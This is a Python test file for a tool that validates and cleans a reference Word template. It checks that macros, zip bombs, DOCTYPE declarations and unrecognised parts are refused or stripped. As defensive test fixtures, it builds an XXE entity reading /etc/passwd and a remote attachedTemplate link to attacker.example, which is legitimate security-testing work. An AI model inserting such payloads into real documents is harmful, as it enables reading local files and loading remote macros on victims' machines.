"""The reference DOCX: checked once before building, refused with one clear error unless it is a
macro-free Word document of a sensible size, and cleaned of every part not understood."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest

from agreement_builder.errors import ReferenceDocxError
from agreement_builder.render.docx import render_docx
from agreement_builder.render.reference import MAX_UNPACKED, check_reference_docx
from tests.conftest import FIXTURES
from tests.hostile.helpers import rewrite_zip, run
from tests.render.test_docx import SAMPLE, _reference

OFFICE = "application/vnd.openxmlformats-officedocument."
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENT_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _add_parts(raw: bytes, parts: dict[str, bytes], types: dict[str, str] | None = None) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            for part, content_type in (types or {}).items():
                data = data.replace(
                    b"</Types>",
                    f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode(),
                )
        return data

    out = io.BytesIO(rewrite_zip(raw, change))
    with zipfile.ZipFile(out, "a") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _refused(path: Path) -> str:
    with pytest.raises(ReferenceDocxError) as error:
        check_reference_docx(path)
    return str(error.value)


def test_a_docm_is_refused(tmp_path: Path) -> None:
    raw = _reference(tmp_path).read_bytes()
    docm = rewrite_zip(
        raw,
        lambda n, d: (
            d.replace(DOCUMENT_MAIN.encode(), MACRO_MAIN.encode())
            if n == "[Content_Types].xml"
            else d
        ),
    )
    path = tmp_path / "template.docm"
    path.write_bytes(docm)
    assert _refused(path) == (
        f"--reference-docx {path}: it is a macro-enabled document ({MACRO_MAIN}): save it from "
        "Word as 'Word Document (*.docx)', without macros"
    )


@pytest.mark.parametrize(
    ("part", "content_type"),
    [
        ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        ("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
    ],
)
def test_a_docx_carrying_macros_is_refused(tmp_path: Path, part: str, content_type: str) -> None:
    path = tmp_path / "template.docx"
    path.write_bytes(
        _add_parts(_reference(tmp_path).read_bytes(), {part: b"<x/>"}, {part: content_type})
    )
    message = _refused(path)
    assert message.startswith(f"--reference-docx {path}: it ")
    assert "macro" in message


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "bomb.docx"
    block = b"\0" * (1 << 20)
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/media/image1.png", "w") as part,
    ):
        for _ in range(MAX_UNPACKED // len(block) + 1):
            part.write(block)
    assert path.stat().st_size < 1 << 20
    assert _refused(path).endswith(
        "it unpacks to more than 64 MB (a zip bomb?); a Word document (.docx) of this kind "
        "needs far less"
    )


def test_a_bomb_that_lies_about_its_size_is_counted_while_unpacking(tmp_path: Path) -> None:
    # The central directory claims 10 bytes; unpacking counts what really comes out.
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * (MAX_UNPACKED + 1))
    data = raw.getvalue()
    size = (MAX_UNPACKED + 1).to_bytes(4, "little")
    lied = data.replace(size, (10).to_bytes(4, "little"))
    path = tmp_path / "liar.docx"
    path.write_bytes(lied)
    message = _refused(path)
    assert "unpacks to more than" in message or "is broken" in message


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("text.docx", b"this is not a Word file"),
        ("empty.docx", b""),
        ("picture.docx", b"\x89PNG\r\n\x1a\n" + b"\0" * 64),
    ],
)
def test_what_is_not_a_docx_is_one_clear_error(tmp_path: Path, name: str, content: bytes) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert _refused(path) == f"--reference-docx {path}: is not a Word document (.docx)"


def test_a_spreadsheet_given_as_reference_is_refused(tmp_path: Path) -> None:
    from agreement_builder.workbook.validate import load_workbook
    from agreement_builder.workbook.xlsx_write import workbook_to_xlsx

    path = tmp_path / "book.docx"
    path.write_bytes(workbook_to_xlsx(load_workbook(FIXTURES / "minimal.yaml")))
    assert "spreadsheetml.sheet.main+xml, not a Word document" in _refused(path)


def test_a_doctype_in_a_part_is_refused(tmp_path: Path) -> None:
    raw = _reference(tmp_path).read_bytes()
    hostile = rewrite_zip(
        raw,
        lambda n, d: (
            d.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
            if n == "word/styles.xml"
            else d
        ),
    )
    path = tmp_path / "xxe.docx"
    path.write_bytes(hostile)
    assert "its part word/styles.xml declares a DOCTYPE" in _refused(path)


@pytest.mark.parametrize("device", ["/dev/zero", "fifo"])
def test_a_reference_that_is_no_regular_file_is_refused(tmp_path: Path, device: str) -> None:
    path = Path(device)
    if device == "fifo":
        path = tmp_path / "reference.docx"
        os.mkfifo(path)
    assert "is not a regular file" in _refused(path)


def test_parts_not_understood_are_never_copied_into_documents(tmp_path: Path) -> None:
    raw = _reference(tmp_path).read_bytes()
    with_extras = _add_parts(
        raw,
        {
            "customXml/item9.xml": b"<secret>tilinumero</secret>",
            "docProps/custom.xml": b"<Properties/>",
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
        },
        {
            "customXml/item9.xml": "application/xml",
            "docProps/custom.xml": OFFICE + "custom-properties+xml",
            "word/embeddings/oleObject1.bin": OFFICE + "oleObject",
        },
    )

    def attach(name: str, data: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
                b'TargetMode="External"/><Relationship Id="rIdC" Type="http://schemas.openxml'
                b'formats.org/officeDocument/2006/relationships/customXml" '
                b'Target="../customXml/item9.xml"/></Relationships>',
            )
        if name == "word/settings.xml":
            return data.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
        return data

    path = tmp_path / "extras.docx"
    path.write_bytes(rewrite_zip(with_extras, attach))
    cleaned = check_reference_docx(path)
    output = render_docx(SAMPLE, reference_docx=cleaned)
    with zipfile.ZipFile(io.BytesIO(output.data)) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(name) for name in names)
    assert not [n for n in names if "item9" in n or "custom.xml" in n or "embeddings" in n]
    assert b"attacker.example" not in everything
    assert b"attachedTemplate" not in everything
    assert b"tilinumero" not in everything
    # What is understood stays: the header's logo and the page size.
    assert any(n.startswith("word/media/") for n in names)
    from docx import Document as open_docx
    from docx.shared import Mm

    width = open_docx(io.BytesIO(output.data)).sections[0].page_width
    assert width is not None and abs(width - Mm(216)) < Mm(1)


def test_the_build_refuses_a_bad_reference_once_and_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "template.docx"
    path.write_bytes(
        _add_parts(
            _reference(tmp_path).read_bytes(),
            {"word/vbaProject.bin": b"\0"},
            {"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        )
    )
    out = tmp_path / "out"
    code, _, err = run(
        "build", str(FIXTURES / "minimal.yaml"), "-o", str(out), "--reference-docx", str(path)
    )
    assert code == 1
    assert err.count("\n") == 1 and ("holds macros" in err or "macro-enabled" in err)
    assert not out.exists()
